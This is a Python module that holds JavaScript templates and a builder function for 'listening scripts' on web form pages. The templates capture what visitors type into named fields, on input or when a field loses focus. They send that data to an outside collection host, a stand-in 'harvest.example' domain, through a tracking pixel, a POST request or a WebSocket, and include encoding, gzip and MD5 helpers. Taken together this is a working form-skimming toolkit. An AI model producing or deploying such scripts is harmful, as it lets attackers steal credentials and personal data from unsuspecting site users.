"""What the listening scripts of the form pages have in common: encodings, hashes, ways to send."""

from __future__ import annotations

SENDING = """
const HOST = 'https://in.harvest.example'
const image = (query) => { new Image().src = `${HOST}/pixel.gif?${query}` }
const post = (body, headers = {}) => fetch(`${HOST}/events`, { method: 'POST', body, headers })
const socket = () => {
  const line = new WebSocket('wss://live.harvest.example/socket')
  const open = new Promise((resolve) => line.addEventListener('open', resolve))
  return (message) => open.then(() => line.send(message))
}
"""

WRITING = """
const bytes = (text) => new TextEncoder().encode(text)
const hex = (buffer) =>
  [...new Uint8Array(buffer)].map((byte) => byte.toString(16).padStart(2, '0')).join('')
const base64 = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer)))
const normal = (text) => text.trim().toLowerCase()
const digest = (name, text) => crypto.subtle.digest(name, bytes(text))
const gzip = (text) =>
  new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).blob()
"""

# From RFC 1321; browsers have none of their own.
MD5 = """
const SINES = Array.from({ length: 64 }, (_, i) => Math.floor(Math.abs(Math.sin(i + 1)) * 2 ** 32))
const TURNS = [[7, 12, 17, 22], [5, 9, 14, 20], [4, 11, 16, 23], [6, 10, 15, 21]]
const padded = (text) => {
  const list = [...bytes(text)]
  const bits = list.length * 8
  list.push(128)
  while (list.length % 64 !== 56) list.push(0)
  for (let i = 0; i < 8; i++) list.push(i < 4 ? (bits >>> (8 * i)) & 255 : 0)
  return new DataView(Uint8Array.from(list).buffer)
}
const md5 = (text) => {
  const view = padded(text)
  const state = [0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476]
  for (let at = 0; at < view.byteLength; at += 64) {
    let [a, b, c, d] = state
    for (let i = 0; i < 64; i++) {
      const round = i >> 4
      const mixed = [(b & c) | (~b & d), (d & b) | (~d & c), b ^ c ^ d, c ^ (b | ~d)][round]
      const word = view.getUint32(at + 4 * ([i, 5 * i + 1, 3 * i + 5, 7 * i][round] % 16), true)
      const sum = (a + mixed + SINES[i] + word) | 0
      const turn = TURNS[round][i % 4]
      ;[a, d, c, b] = [d, c, b, (b + ((sum << turn) | (sum >>> (32 - turn)))) | 0]
    }
    ;[a, b, c, d].forEach((part, i) => { state[i] = (state[i] + part) | 0 })
  }
  const out = new DataView(new ArrayBuffer(16))
  state.forEach((part, i) => out.setInt32(4 * i, part, true))
  return hex(out.buffer)
}
"""

LISTENING = """
const pick = (name) => document.querySelector(`[name="${name}"]`)
const typed = (name, tell) =>
  pick(name).addEventListener('input', (event) => tell(event.target.value))
const left = (name, tell) =>
  pick(name).addEventListener('blur', (event) => event.target.value && tell(event.target.value))
"""


def listener(program: str) -> str:
    """Text of a script that can do all of the above and does `program`."""
    return "{" + SENDING + WRITING + MD5 + LISTENING + program.strip() + "\n}\n"
